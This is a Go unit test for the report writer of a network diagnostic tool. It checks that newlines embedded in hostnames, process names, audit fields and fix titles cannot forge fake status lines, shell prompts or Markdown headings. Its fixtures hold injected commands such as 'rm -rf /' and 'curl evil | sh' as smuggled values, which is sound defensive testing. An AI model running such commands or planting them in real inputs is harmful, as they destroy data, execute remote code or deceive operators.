package model

import (
	"bytes"
	"strings"
	"testing"

	"github.com/rtnl-doctor/rtnl-doctor/probes"
)

// TestReportsKeepSystemValuesOnOneLine: a comm set with prctl to
// "x\n✓ OK ..." and hex-decoded audit fields holding "\n$ ..." or
// "\n## ..." must not print a fake line, prompt or heading in the text or
// Markdown report (issue 10, finding 6).
func TestReportsKeepSystemValuesOnOneLine(t *testing.T) {
	f := &probes.Facts{}
	f.Host.Hostname = "node\n## Owned heading"
	f.Target.PID, f.Target.Comm, f.Target.NetNS = 4242, "x\n✓ OK     everything is fine", "of PID 4242"
	d := &Diagnosis{Facts: f, Symptom: Symptom{Raw: "ip link add v0 type veth", Recognised: true, Operation: OpLinkAdd, Device: "v0\n$ rm -rf /"},
		Results: []Result{{ID: "mac-denial", Title: "A security module", Verdict: Verdict{Status: Fail,
			Evidence: []string{"denied comm=ip\n$ curl evil | sh", "profile x\n# Heading\n✓ OK     name-conflict: fine"}},
			Fixes: []Fix{{ID: "mac-denial/x", Title: "Fix\n$ reboot", Command: argv("aa-complain", "prof\n$ reboot"), Risk: "r\n✓ OK"}}}}}
	var text, md bytes.Buffer
	if err := d.WriteText(&text); err != nil {
		t.Fatal(err)
	}
	if err := d.WriteMarkdown(&md); err != nil {
		t.Fatal(err)
	}
	for what, out := range map[string]string{"text": text.String(), "markdown": md.String()} {
		for _, line := range strings.Split(out, "\n") {
			l := strings.TrimLeft(line, " ")
			for _, fake := range []string{"✓ OK", "$ rm", "$ curl", "$ reboot", "# Heading", "## Owned", "# Owned"} {
				if strings.HasPrefix(l, fake) {
					t.Errorf("%s report: a system value starts a line: %q", what, line)
				}
			}
		}
	}
}
